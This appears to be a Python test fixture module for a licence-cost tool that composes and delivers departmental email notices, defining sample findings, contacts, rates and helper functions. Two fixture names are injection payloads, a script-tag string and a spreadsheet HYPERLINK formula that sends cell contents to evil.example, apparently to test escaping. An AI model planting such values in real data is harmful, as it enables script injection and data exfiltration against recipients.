"""A small organization's costed findings, focal points and rate card, and notice helpers."""

from __future__ import annotations

import email
import email.policy
from collections.abc import Callable, Sequence
from email.message import EmailMessage
from pathlib import Path

import pandas as pd

from licensewatch import model
from licensewatch.config import MailSettings
from licensewatch.notify.compose import DepartmentNotice, compose_notices
from licensewatch.notify.transports.directory import DirectoryTransport
from tests.reports.costed import AS_OF, costed, finding

SCRIPT_NAME = "Bob <script>alert(1)</script>"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
RESEARCH = "研究部"

FINDINGS = costed(
    finding("license:b:e3", "Finance", "bob@x.org", name=SCRIPT_NAME, accrued=11064,
            last_activity="2019-06-01"),
    finding("phone:sep2", "Finance", "SEP000000000002", kind="phone", name="Bob desk",
            item="IP_PHONE", rate=23000, reasons="PHONE_OWNER_DORMANT"),
    finding("license:c:e3", "legal", "carol@x.org", name=FORMULA_NAME,
            reasons="SEPARATED;INACTIVE", separation="2019-11-30"),
    finding("license:e:e3", "Legal", "erin@x.org", name="Erin Shah", reasons="DISABLED_LICENSED",
            item=None),
    finding("license:w:e3", RESEARCH, "wang@x.org", name="王小明", reasons="NEVER_SIGNED_IN"),
    finding("license:h:e3", "HR", "hank@x.org", name="Hank Hill"),
    finding("license:f:e3", model.UNASSIGNED, "frank@x.org", name="Frank Bauer"),
)  # fmt: skip

FOCAL_POINTS = model.conform(
    pd.DataFrame(
        {
            "department": ["Finance", " LEGAL ", RESEARCH, "Empty dept"],
            "email": [
                "fp.finance@x.org",
                "fp.legal@x.org;boss.legal@x.org",
                "fp.rd@x.org",
                "e@x.org",
            ],
            "name": ["Zoë Müller", "José Ñúñez", "李雷", None],
            "cc": [None, "legal.assistant@x.org", None, None],
            "language": ["en", "fr", "en", "en"],
        }
    ),
    model.FOCAL_POINTS,
)

RATES = model.conform(
    pd.DataFrame(
        {
            "item": ["M365_E3", "IP_PHONE", "UNUSED_ITEM"],
            "description": ["Microsoft 365 E3 licence", "IP desk phone with PC port", "Unused"],
            "resource_kind": ["license", "phone", "license"],
            "matches": ["SPE_E3", "*", "X"],
            "annual_rate_cents": [18960, 23000, 100],
            "effective_from": ["2016-01-01", "2018-07-01", "2016-01-01"],
            "effective_to": [None, "2020-06-30", None],
        }
    ),
    model.RATE_CARD,
)

MAIL = MailSettings(
    sender="licensewatch@contoso.org",
    reply_to="ict-licensing@contoso.org",
    response_days=14,
    organization="Contoso",
)

Compose = Callable[..., tuple[list[DepartmentNotice], pd.DataFrame]]


def compose(
    findings: pd.DataFrame = FINDINGS,
    focal_points: pd.DataFrame = FOCAL_POINTS,
    *,
    mail: MailSettings = MAIL,
    **kwargs: object,
) -> tuple[list[DepartmentNotice], pd.DataFrame]:
    """compose_notices with the fixtures' defaults."""
    return compose_notices(
        findings,
        focal_points,
        as_of=AS_OF,
        mail=mail,
        rate_card_in_force=RATES,
        run_key="run0123abcd",
        **kwargs,  # type: ignore[arg-type]
    )


def deliver(notices: Sequence[DepartmentNotice], folder: Path) -> dict[str, EmailMessage]:
    """Write the notices with DirectoryTransport and parse the files back, by department."""
    with DirectoryTransport(folder) as transport:
        for notice in notices:
            transport.send(notice.message, key=notice.key)
    parsed = {}
    for notice in notices:
        raw = (folder / f"{notice.key}.eml").read_bytes()
        msg = email.message_from_bytes(raw, policy=email.policy.default)
        assert isinstance(msg, EmailMessage)
        parsed[notice.department] = msg
    assert len(list(folder.glob("*.eml"))) == len(notices)
    return parsed


def whole_text(msg: EmailMessage) -> str:
    """Headers and every decoded text part, attachments included."""
    parts = [f"{k}: {v}" for k, v in msg.items()]
    for part in msg.walk():
        parts.extend(f"{k}: {v}" for k, v in part.items())
        if part.get_content_maintype() == "text":
            parts.append(part.get_content())
    return "\n".join(parts)
